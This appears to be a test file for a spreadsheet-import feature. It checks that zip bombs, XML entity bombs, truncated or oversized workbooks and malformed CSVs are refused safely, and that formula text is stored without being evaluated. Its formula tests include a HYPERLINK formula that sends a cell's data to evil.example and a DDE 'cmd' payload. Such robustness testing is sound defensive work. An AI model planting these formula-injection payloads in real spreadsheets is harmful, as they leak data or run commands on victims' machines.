/**
 * The issue's corpus of hostile files through the whole import (open, detect, read,
 * parse, insert), into a workspace that already holds an imported file: each import
 * fails or succeeds within bounded time and memory, a failure is a PulsoFailure naming
 * the file and the limit, and after a failure the workspace is exactly as it was.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { readFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { PulsoFailure } from '../../../../src/main/core/failure'
import { importSpreadsheet } from '../../../../src/main/core/import/importSpreadsheet'
import { columnLetter } from '../../../../src/main/core/readers'
import { queryRows, Workspace } from '../../../../src/main/core/workspace/workspace'
import { writePtBrCsv } from '../../../fixtures/csv'
import { writeBytes, writeEntityBombXlsx, writePlainZip, writeSmallXlsx, writeWideXlsx, writeZipBombXlsx } from '../../../fixtures/hostileFiles'
import { escapeXml, writeRawXlsx } from '../../../fixtures/xlsxPackage'

/** Generous bounds: a hostile file must never take longer or grow the process more. */
const maxMs = 20_000
const maxRssGrowth = 500 * 1024 * 1024

let dir = ''
let baseFile = ''
beforeAll(async () => {
  dir = mkdtempSync(path.join(tmpdir(), 'pulso-hostile-import-'))
  const workspace = await Workspace.create()
  await importSpreadsheet(workspace, await writePtBrCsv(dir))
  baseFile = workspace.save(path.join(dir, 'base.pulso'))
  workspace.close()
})
afterAll(() => rmSync(dir, { recursive: true, force: true }))

/** What "unchanged" compares: files, row counts of every table, problems, integrity. */
function snapshot(workspace: Workspace): unknown {
  return {
    files: workspace.sourceFiles().map((f) => [f.name, f.sheet, f.sha256]),
    tables: workspace.summary().tables.map((t) => [t.kind, t.rows]),
    problems: queryRows(workspace.db, 'SELECT count(*) AS n FROM problems')[0].n,
    integrity: queryRows(workspace.db, 'PRAGMA integrity_check')[0].integrity_check
  }
}

interface Outcome {
  failure: PulsoFailure | null
  rows: number
  workspace: Workspace
}

/**
 * Imports `file` into a copy of the base workspace, measuring time and the peak growth of
 * the resident set; checks the bounds and, on failure, that nothing changed. The file is
 * deleted afterwards. Anything thrown but a PulsoFailure fails the test.
 */
async function importHostile(file: string): Promise<Outcome> {
  const workspace = await Workspace.open(baseFile)
  const before = snapshot(workspace)
  const rssBefore = process.memoryUsage().rss
  let peak = rssBefore
  const sampler = setInterval(() => (peak = Math.max(peak, process.memoryUsage().rss)), 10)
  const started = performance.now()
  let failure: PulsoFailure | null = null
  let rows = 0
  try {
    const sheets = await importSpreadsheet(workspace, file)
    rows = sheets.reduce((sum, sheet) => sum + sheet.rowsImported, 0)
  } catch (error) {
    if (!(error instanceof PulsoFailure)) throw new Error(`${path.basename(file)}: ${String(error)} escaped as ${(error as Error).name}, not a PulsoFailure`, { cause: error })
    failure = error
  } finally {
    clearInterval(sampler)
    rmSync(file, { force: true })
  }
  const ms = performance.now() - started
  peak = Math.max(peak, process.memoryUsage().rss)
  expect(ms, `${path.basename(file)} took ${Math.round(ms)} ms`).toBeLessThan(maxMs)
  expect(peak - rssBefore, `${path.basename(file)} grew the process by ${Math.round((peak - rssBefore) / 2 ** 20)} MiB`).toBeLessThan(maxRssGrowth)
  if (failure) {
    expect(failure.message).toContain(path.basename(file))
    expect(failure.details).toMatchObject({ file: path.basename(file) })
    expect(snapshot(workspace)).toEqual(before)
  }
  return { failure, rows, workspace }
}

/** Imports a file that must be refused, with `code` and a message matching `limit`. */
async function expectRefused(file: string, limit: RegExp, code = 'bad-file'): Promise<void> {
  const { failure, workspace } = await importHostile(file)
  workspace.close()
  expect(failure, `${path.basename(file)} should be refused`).toBeInstanceOf(PulsoFailure)
  expect(failure?.code).toBe(code)
  expect(failure?.message).toMatch(limit)
}

describe('hostile xlsx files through the import', () => {
  it('a zip bomb (40 MB of sheet in a tiny file) is refused by its compression ratio', async () => {
    const file = await writeZipBombXlsx(dir, 40)
    expect((await readFile(file)).length).toBeLessThan(200_000)
    await expectRefused(file, /200 times its packed size/)
  })

  it.each(['sheet', 'sharedStrings'] as const)('billion laughs in the %s part is refused for its DOCTYPE', async (part) => {
    await expectRefused(await writeEntityBombXlsx(dir, part), /declares a DOCTYPE/)
  })

  it('a truncated workbook is refused as damaged', async () => {
    const whole = await readFile(await writeSmallXlsx(dir, 'whole.xlsx'))
    await expectRefused(await writeBytes(dir, 'truncated.xlsx', whole.subarray(0, Math.floor(whole.length / 2))), /damaged or truncated/)
  })

  it('a zip that is not a workbook is refused', async () => {
    await expectRefused(await writePlainZip(dir), /zip file but not an Excel workbook/)
  })

  it('a sheet with a cell in column 20,000 is refused at the 16,384-column limit', async () => {
    await expectRefused(await writeWideXlsx(dir, columnLetter(20_000)), /16,384 columns/)
  })

  it('formula-looking text and formulas are stored as their text, never evaluated', async () => {
    const texts = ['=HYPERLINK("http://evil.example/?d="&A1,"Clique")', "=cmd|' /C calc'!A0", '+SUM(1,2)', '@SUM(1)', '-2+3']
    const rows = texts.map((text, i) => `<row r="${i + 2}"><c r="A${i + 2}"><v>${i + 1}</v></c><c r="B${i + 2}" t="inlineStr"><is><t>${escapeXml(text)}</t></is></c></row>`)
    const formula = `<row r="7"><c r="A7"><v>6</v></c><c r="B7" t="str"><f>HYPERLINK("http://evil.example","x")</f><v>x</v></c></row>`
    const header = '<row r="1"><c r="A1" t="inlineStr"><is><t>Código do cliente</t></is></c><c r="B1" t="inlineStr"><is><t>Nome</t></is></c></row>'
    const file = await writeRawXlsx(path.join(dir, 'formulas.xlsx'), { sheets: [{ name: 'Clientes', rows: header + rows.join('') + formula }] })
    const { failure, rows: imported, workspace } = await importHostile(file)
    expect(failure).toBeNull()
    expect(imported).toBe(6)
    const names = queryRows(workspace.db, "SELECT f_name AS name, typeof(f_name) AS type FROM data_customers WHERE source_id = (SELECT max(id) FROM source_files) ORDER BY row_number")
    workspace.close()
    expect(names.map((r) => r.name)).toEqual([...texts, 'x'])
    expect(new Set(names.map((r) => r.type))).toEqual(new Set(['text']))
  })
})

describe('hostile csv files through the import', () => {
  it('a binary file named .csv is refused', async () => {
    await expectRefused(await writeBytes(dir, 'image.csv', Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 13]), Buffer.alloc(4096, 7)])), /NUL bytes/)
  })

  it('a 50 MB csv of one line with no line break is refused at the row limit', async () => {
    const file = path.join(dir, 'one-line.csv')
    writeFileSync(file, Buffer.alloc(50 * 1024 * 1024, 'a'))
    await expectRefused(file, /longer than 16,777,216 characters/)
  }, 30_000)

  it('a csv of 20,000 fields is refused at the 16,384-column limit', async () => {
    await expectRefused(await writeBytes(dir, 'wide.csv', `${Array.from({ length: 20_000 }, (_, i) => `c${i}`).join(',')}\n1\n`), /20,000 fields/)
  })

  it('a csv with 10 million empty lines imports its one row, in bounded time', async () => {
    const file = path.join(dir, 'empty-lines.csv')
    writeFileSync(file, `Cliente;Data;Valor\n${'\n'.repeat(10_000_000)}C1;15/03/2024;10,50\n`)
    const { failure, rows, workspace } = await importHostile(file)
    workspace.close()
    expect(failure).toBeNull()
    expect(rows).toBe(1)
  }, 30_000)

  it('invalid UTF-8 is read (as Windows-1252 text), not a crash', async () => {
    const bytes = Buffer.concat([Buffer.from('Cliente;Data;Valor;Produto\nC1;15/03/2024;10,50;'), Buffer.from([0xc3, 0x28, 0xff, 0x80, 0xc0, 0xaf]), Buffer.from('\nC2;16/03/2024;1,00;ok\n')])
    const { failure, rows, workspace } = await importHostile(await writeBytes(dir, 'invalid-utf8.csv', bytes))
    const products = queryRows(workspace.db, 'SELECT f_product AS product FROM data_revenue ORDER BY row_number').map((r) => r.product)
    workspace.close()
    expect(failure).toBeNull()
    expect(rows).toBe(2)
    expect(products).toEqual(['Ã(ÿ\u20acÀ¯', 'ok'])
  })

  it('formula-looking text in a csv is stored as text', async () => {
    const texts = ['=HYPERLINK("http://evil.example/?d="&A1;"Clique")', "=cmd|' /C calc'!A0", '+1+1', '@SUM(A1)']
    const csv = `Código do cliente,Nome\n${texts.map((t, i) => `${i + 1},"${t.replace(/"/g, '""')}"`).join('\n')}\n`
    const { failure, workspace } = await importHostile(await writeBytes(dir, 'formulas.csv', csv))
    const names = queryRows(workspace.db, "SELECT f_name AS name, typeof(f_name) AS type FROM data_customers WHERE source_id = (SELECT max(id) FROM source_files) ORDER BY row_number")
    workspace.close()
    expect(failure).toBeNull()
    expect(names.map((r) => r.name)).toEqual(texts)
    expect(new Set(names.map((r) => r.type))).toEqual(new Set(['text']))
  })
})
